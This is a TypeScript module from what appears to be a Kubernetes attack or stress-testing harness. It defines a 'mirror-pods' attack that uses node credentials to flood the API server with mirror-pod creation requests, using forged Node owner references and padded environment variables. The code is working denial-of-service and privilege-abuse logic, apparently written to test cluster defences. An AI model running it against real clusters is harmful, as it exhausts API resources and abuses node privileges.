import type {Attack} from '../attack.ts'
import {freshName, inTurn} from './bodies.ts'

const PATH = '/api/v1/namespaces/default/pods'
const environment = Array.from({length: 2000}, (_, n) => ({name: `E${n}`, value: 'x'.repeat(100)}))

/** Pods that nobody else has asked for: a node may mirror its own. */
export const mirrorPods: Attack = {
  name: 'mirror-pods',
  aim: 'mirror pods without number',
  run: ({holdings, shoot, flood}) =>
    flood({perSecond: 10, atOnce: 3}, (number) => {
      const node = inTurn(holdings.nodes, number)
      const pod = {
        metadata: {
          name: freshName('pod'),
          namespace: 'default',
          annotations: {'kubernetes.io/config.mirror': `m${number}`},
          ownerReferences: [
            {apiVersion: 'v1', kind: 'Node', name: node.name, uid: 'unknown', controller: true},
          ],
        },
        spec: {
          nodeName: node.name,
          containers: [{name: 'c', image: 'i', env: number % 2 === 0 ? environment : []}],
        },
      }
      return shoot(node, {method: 'POST', path: PATH, body: JSON.stringify(pod)})
    }),
}
